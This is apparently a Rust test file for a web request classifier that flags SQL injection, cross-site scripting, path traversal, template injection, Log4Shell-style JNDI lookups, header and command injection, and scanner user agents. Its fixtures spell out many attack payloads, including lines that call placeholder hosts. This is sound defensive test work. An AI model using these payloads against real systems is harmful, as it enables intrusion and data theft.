use proptest::prelude::*;

use crate::event::Invalid;

use super::{
    signatures::{self, MAX_SCAN, RULES},
    *,
};

const CHROME: &str = "Mozilla/5.0 (Linux; Android 14; CAT S61) AppleWebKit/537.36 (KHTML, like Gecko) \
                      Chrome/126.0.0.0 Mobile Safari/537.36";

fn query(query: &str) -> Quality {
    classify(&Evidence { query: query.as_bytes(), agent: Claims::read(CHROME.as_bytes()), ..Evidence::default() })
}

fn agent(agent: &str) -> Quality {
    classify(&Evidence { agent: Claims::read(agent.as_bytes()), ..Evidence::default() })
}

fn encode(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat()
}

fn assert_finds(quality: &Quality, verdict: Verdict, reason: &'static str, input: &str) {
    assert!(quality.verdict == verdict && quality.reasons.contains(&reason), "{input}: {quality:?}");
}

/// As typed, as a form sends it, and with every byte escaped.
fn assert_query_finds(text: &str, verdict: Verdict, reason: &'static str) {
    for sent in [text.to_owned(), text.replace(' ', "+"), text.replace(' ', "%09%0b"), encode(text)] {
        assert_finds(&query(&sent), verdict, reason, &sent);
    }
}

#[test]
fn sql_injection_is_malicious() {
    for text in [
        "id=1' OR '1'='1",
        "id=1 or 1=1-- -",
        "id=-1 UnIoN SeLeCt 1,2,3",
        "id=1 union all select null,null",
        "id=1;drop table users",
        "id=1 and sleep(5)",
        "id=1' waitfor delay '0:0:5'--",
        "x=(select table_name from information_schema.tables)",
        "id=1' and extractvalue(1,concat(0x7e,version()))",
    ] {
        assert_query_finds(text, Verdict::Malicious, "sql-injection");
    }
    let commented = query("id=1/**/union/**/select/**/1,2");
    assert_finds(&commented, Verdict::Malicious, "sql-injection", "comments for spaces");
}

#[test]
fn cross_site_scripting_is_malicious() {
    for text in [
        "q=<script>alert(1)</script>",
        "q=\"><ScRiPt src=//x>",
        "q=<img src=x onerror=alert(1)>",
        "q=<svg/onload=alert(1)>",
        "next=javascript:alert(document.domain)",
        "q=<iframe srcdoc=x>",
    ] {
        assert_query_finds(text, Verdict::Malicious, "cross-site-scripting");
    }
}

#[test]
fn path_traversal_is_malicious() {
    for text in ["f=../../../../etc/passwd", "f=..\\..\\windows\\win.ini", "f=php://filter/x", "f=/etc/shadow"] {
        assert_query_finds(text, Verdict::Malicious, "path-traversal");
    }
    for path in ["%2e%2e%2fadmin", "..%2f..%2fetc", "%252e%252e%252fadmin", "..%c0%afadmin", "a/..;/admin"] {
        let quality = classify(&Evidence { path: path.as_bytes(), ..Evidence::default() });
        assert_finds(&quality, Verdict::Malicious, "path-traversal", path);
    }
}

#[test]
fn template_injection_is_malicious() {
    for text in [
        "n={{7*7}}",
        "n=${{ 7 * 7 }}",
        "n=${7*7}",
        "n=#{ 7*7 }",
        "n=<%= 7*7 %>",
        "n={{7*'7'}}",
        "n={{''.__class__.__mro__[1]}}",
        "n=class.module.classLoader.x=1",
        "n=${T(java.lang.Runtime)}",
    ] {
        assert_query_finds(text, Verdict::Malicious, "template-injection");
    }
}

#[test]
fn a_log_lookup_is_malicious_in_any_field() {
    let text = "${jndi:ldap://x.example/a}";
    for text in [text, "${${lower:j}ndi:ldap://x/}", "${${::-j}ndi:rmi://x/}", "${JNDI:dns://x}"] {
        assert_query_finds(text, Verdict::Malicious, "log-lookup");
        assert_finds(&agent(text), Verdict::Malicious, "log-lookup", text);
        let referer = classify(&Evidence { referer: text.as_bytes(), ..Evidence::default() });
        assert_finds(&referer, Verdict::Malicious, "log-lookup", text);
        let path = classify(&Evidence { path: text.as_bytes(), ..Evidence::default() });
        assert_finds(&path, Verdict::Malicious, "log-lookup", text);
    }
}

#[test]
fn header_injection_needs_a_header_to_be_malicious() {
    for text in
        ["a%0d%0aSet-Cookie:x=1", "a%0D%0AContent-Length%3a0", "a%250d%250aset-cookie:x", "%E5%98%8D%E5%98%8A"]
    {
        assert_finds(&query(text), Verdict::Malicious, "header-injection", text);
    }
    assert_finds(&query("text=one%0d%0atwo"), Verdict::Suspicious, "header-injection", "two lines");
}

#[test]
fn command_injection_is_malicious() {
    for text in ["c=;cat /etc/hosts", "c=$(id)", "c=| wget http://x", "c=/bin/sh -c x"] {
        assert_query_finds(text, Verdict::Malicious, "command-injection");
    }
    let shellshock = "() { :;}; /bin/bash -c 'x'";
    assert_finds(&agent(shellshock), Verdict::Malicious, "command-injection", shellshock);
}

#[test]
fn a_scanners_agent_is_suspicious() {
    for text in [
        "sqlmap/1.7#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6)",
        "Nuclei - Open-source project",
        "Mozilla/5.0 zgrab/0.x",
        "masscan/1.3",
        "Fuzz Faster U Fool v2",
        "WPScan v3",
    ] {
        let quality = agent(text);
        assert_eq!((quality.verdict, &quality.reasons[..]), (Verdict::Suspicious, &["scanner"][..]), "{text}");
    }
}

#[test]
fn a_scanners_name_elsewhere_is_clean() {
    assert_eq!(query("utm_campaign=sqlmap+tutorial").verdict, Verdict::Clean);
    assert_eq!(agent("Mozilla/5.0 (Linux; Niktopia 3)").verdict, Verdict::Clean);
    let referer = b"https://blog.example/nikto/sqlmap/";
    assert_eq!(classify(&Evidence { referer, ..Evidence::default() }).verdict, Verdict::Clean);
}

#[test]
fn weak_evidence_is_suspicious() {
    for (text, reason) in [
        ("q=union select", "sql-injection"),
        ("q=select * from x", "sql-injection"),
        ("q=good sleep(8)", "sql-injection"),
        ("q=alert(1)", "cross-site-scripting"),
        ("next=javascript:void(0)", "cross-site-scripting"),
        ("q=<iframe width=1>", "cross-site-scripting"),
        ("q=${${x}}", "log-lookup"),
    ] {
        assert_query_finds(text, Verdict::Suspicious, reason);
    }
}

#[test]
fn one_step_up_is_suspicious_unless_its_dots_are_escaped() {
    for text in ["img=../images/a.png", "img=..%2Fimages%2Fa.png", "img=..%5ca.png"] {
        assert_finds(&query(text), Verdict::Suspicious, "path-traversal", text);
    }
    assert_finds(&query("img=%2e%2e/a.png"), Verdict::Malicious, "path-traversal", "escaped dots");
}

#[test]
fn ordinary_marketing_queries_are_clean() {
    for text in [
        "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2026&utm_content=button-1&utm_term=a+b",
        "gclid=Cj0KCQjw-_&gbraid=0AAA&fbclid=IwAR0x_Q-..&msclkid=1f2e",
        "q=a+union+of+select+stores",
        "q=select+a+store+from+the+map",
        "email=o%27connor%2Bnews%40example.com&n=D%27Or",
        "q=rock+%27n%27+roll+or+jazz",
        "data=%7B%22a%22%3A%7B%22b%22%3A%5B1%2C2%5D%7D%7D",
        "data={\"a\":{\"b\":[{\"c\":null}]}}",
        "url=https%3A%2F%2Fwww.example.com%2Fwait..what%2Fa...b%3Fx%3D1",
        "u=https://example.com/a..b/c../d",
        "name={{first_name}}&c={{campaign.name}}&i={{1}}&s={{ contact.email }}",
        "g=${GADID}&k={keyword}&x=#{name}",
        "e=*|EMAIL|*&m=%%EMAIL%%&n=<%= name %>&l=[[name]]&d=$(name)&b={{7}}&y={{2026-11-23}}",
        "p=50%25+off+%26+more",
        "q=@(7-8+pm)+benchmark(2024)+sleep+(deep)+drop+table+lamps",
        "q=order+by+phone+and+save+1%3D1",
        "q=script+writing+alert",
        "date=2026-11-23T11:48:57%2B01:00&t=1,2,3&v=1;2;3",
        "q=5+%3C+6+%3E+4&r=%3C3",
        "onload=1&onerror=2&style=x",
        "text=one%0Atwo&q=what...%2F",
        "q=caf%C3%A9+%E2%82%AC+%F0%9F%98%80",
        "q=100%+natural%",
        "a=%zz&b=%",
        "redirect=https%253A%252F%252Fexample.com%252Fa%253Fb%253Dc",
        "q=the+cat+/+dog+%7C+bird+%3B+fish",
        "path=etc-passwd-explained&tag=win.initiative",
        "q=system32+or+11",
    ] {
        assert_eq!(query(text), Quality { verdict: Verdict::Clean, reasons: Vec::new(), invalid: None }, "{text}");
    }
}

#[test]
fn ordinary_agents_and_referrers_are_clean() {
    for text in [
        CHROME,
        "",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) [FBAN/FBIOS;FBAV/468.0;FBLC/en_US;FBOP/5]",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Wget/1.21.4",
        "okhttp/4.12.0",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
        "MyApp/1 CFNetwork/1 Darwin/23%20",
    ] {
        assert_eq!(agent(text).verdict, Verdict::Clean, "{text}");
    }
    for referer in ["https://www.google.com/search?q=nice+shoes", "android-app://com.google.android.gm/", "-", ""] {
        let quality = classify(&Evidence { referer: referer.as_bytes(), ..Evidence::default() });
        assert_eq!(quality.verdict, Verdict::Clean, "{referer}");
    }
}

#[test]
fn the_worst_reason_gives_the_verdict_and_every_reason_is_listed_once() {
    let evidence = Evidence {
        path: b"..%2fx/..%2fx",
        query: b"a=<script>&b=<script>&c=%3Cscript%3E",
        referer: b"${jndi:x",
        agent: Claims::read(b"nikto sqlmap"),
        ..Evidence::default()
    };
    let Quality { verdict, reasons, .. } = classify(&evidence);
    assert_eq!(verdict, Verdict::Malicious);
    assert_eq!(reasons, ["cross-site-scripting", "path-traversal", "log-lookup", "scanner"]);
}

#[test]
fn of_a_long_field_only_the_beginning_is_scanned() {
    let at = |padding: usize| query(&format!("{}<script", "a".repeat(padding))).verdict;
    assert_eq!(at(MAX_SCAN - 7), Verdict::Malicious);
    assert_eq!(at(MAX_SCAN - 6), Verdict::Clean);
}

#[test]
fn every_rule_is_in_the_automaton() {
    assert_eq!(signatures::needles(), RULES.iter().map(|rule| rule.needles.len()).sum::<usize>());
}

proptest! {
    #[test]
    fn any_bytes_give_unique_reasons_in_order_and_a_verdict_that_fits(
        path: Vec<u8>,
        query in "([a-z=&+%.{}$<>'*/7 -]|%[0-9a-f]{2}|\\.\\./|\\{\\{|union select|<script|' or )*",
        referer: Vec<u8>,
        agent in prop_oneof![Just("sqlmap"), Just("${jndi:"), Just("x")],
    ) {
        let (query, agent) = (query.as_bytes(), Claims::read(agent.as_bytes()));
        let evidence = Evidence { path: &path, query, referer: &referer, agent, ..Evidence::default() };
        let Quality { verdict, reasons, .. } = classify(&evidence);
        let order: Vec<&str> = Reason::ALL.iter().map(|reason| reason.slug()).collect();
        let places: Vec<_> = reasons.iter().map(|slug| order.iter().position(|other| other == slug)).collect();
        prop_assert!(places.iter().all(Option::is_some));
        prop_assert!(places.is_sorted_by(|a, b| a < b));
        prop_assert_eq!(verdict == Verdict::Clean, reasons.is_empty());
    }

    #[test]
    fn letters_and_digits_are_clean(words in prop::collection::vec("[a-zA-Z0-9]{1,12}", 0..20)) {
        for separator in ["+", "%20", "&", "=", "-", "_", ".", "/", ","] {
            let text = words.join(separator);
            prop_assert_eq!(query(&text).verdict, Verdict::Clean, "{}", text);
        }
    }

    #[test]
    fn an_attack_is_detected_in_any_surroundings(before: Vec<u8>, after: Vec<u8>) {
        let referer = [&before, &b"<script"[..], &after].concat();
        let quality = classify(&Evidence { referer: &referer, ..Evidence::default() });
        prop_assert_eq!(quality.verdict, Verdict::Malicious);
    }
}

#[test]
fn what_the_stages_have_detected_becomes_a_reason() {
    type Change = fn(&mut Evidence<'_>);
    let (general, sophisticated) = (Some(Invalid::General), Some(Invalid::Sophisticated));
    let rows: [(Change, Verdict, &str, Option<Invalid>); 6] = [
        (|evidence| evidence.flood = true, Verdict::Suspicious, "click-flood", general),
        (|evidence| evidence.enumeration = true, Verdict::Suspicious, "link-enumeration", general),
        (|evidence| evidence.blocked_destination = true, Verdict::Malicious, "blocked-destination", None),
        (|evidence| evidence.hosting_network = true, Verdict::Suspicious, "data-center-network", general),
        (|evidence| evidence.anonymizer_network = true, Verdict::Suspicious, "anonymizer-network", None),
        (|evidence| evidence.spam_referrer = true, Verdict::Suspicious, "spam-referrer", sophisticated),
    ];
    for (change, verdict, reason, invalid) in rows {
        let mut evidence = Evidence { agent: Claims::read(CHROME.as_bytes()), ..Evidence::default() };
        assert_eq!(classify(&evidence).verdict, Verdict::Clean);
        change(&mut evidence);
        assert_eq!(classify(&evidence), Quality { verdict, reasons: vec![reason], invalid });
    }
    let headers = Headers { http_1_0: true, ..Headers::default() };
    let quality = classify(&Evidence { agent: Claims::read(CHROME.as_bytes()), headers, ..Evidence::default() });
    let reasons = vec!["impossible-headers"];
    assert_eq!(quality, Quality { verdict: Verdict::Suspicious, reasons, invalid: sophisticated });
}

#[test]
fn weak_evidence_makes_no_click_invalid_and_the_graver_class_wins() {
    let of = |text: &str, agent: &[u8]| {
        let evidence = Evidence { query: text.as_bytes(), agent: Claims::read(agent), ..Evidence::default() };
        let quality = classify(&evidence);
        (quality.verdict, quality.invalid)
    };
    let browser = CHROME.as_bytes();
    assert_eq!(of("q=spring", browser), (Verdict::Clean, None));
    assert_eq!(of("q=union+select", browser), (Verdict::Suspicious, None));
    assert_eq!(of("q=union+all+select", browser), (Verdict::Malicious, Some(Invalid::Sophisticated)));
    assert_eq!(of("q=union+select", b"sqlmap/1.7"), (Verdict::Suspicious, Some(Invalid::General)));
    assert_eq!(of("q=union+all+select", b"sqlmap/1.7"), (Verdict::Malicious, Some(Invalid::Sophisticated)));
}

#[test]
fn weak_evidence_never_blocks() {
    let of = |query: &str, block: &[Reason]| {
        let evidence =
            Evidence { query: query.as_bytes(), agent: Claims::read(b"sqlmap/1.7"), ..Evidence::default() };
        detect(&evidence).first_with_high_confidence(block.iter().copied().collect())
    };
    assert_eq!(of("q=union+select", &[Reason::SqlInjection]), None);
    assert_eq!(of("q=union+all+select", &[Reason::SqlInjection]), Some(Reason::SqlInjection));
    assert_eq!(of("q=union+all+select", &[Reason::PathTraversal]), None);
    assert_eq!(of("q=union+all+select", &[]), None);
    assert_eq!(of("q=union+select", &[Reason::SqlInjection, Reason::Scanner]), Some(Reason::Scanner));
    assert_eq!(of("q=<script", &Reason::ALL), Some(Reason::CrossSiteScripting));
    assert_eq!(of("", &Reason::ALL), Some(Reason::Scanner));
}

#[test]
fn every_attack_has_a_rule_with_high_confidence() {
    for reason in Reason::ALL.iter().take(8) {
        let highest = RULES.iter().filter(|rule| rule.reason == *reason).map(|rule| rule.confidence).max();
        assert_eq!(highest, Some(Confidence::High), "{reason:?}");
    }
}

#[test]
fn an_attack_within_a_browsers_agent_is_detected() {
    let of = |system: &str| {
        let text = CHROME.replace("Linux; Android 14; CAT S61", system);
        assert!(Browser::read(text.as_bytes()).is_some(), "{text}");
        agent(&text)
    };
    assert_finds(&of("X11; sqlmap"), Verdict::Suspicious, "scanner", "a scanner's name");
    assert_finds(&of("X11; ${jndi:dns://x}"), Verdict::Malicious, "log-lookup", "a lookup");
    assert_finds(&of("X11; %3Cscript%3E"), Verdict::Malicious, "cross-site-scripting", "encoded");
    assert_eq!(of("Linux; Android 14; CAT S61").verdict, Verdict::Clean);
}
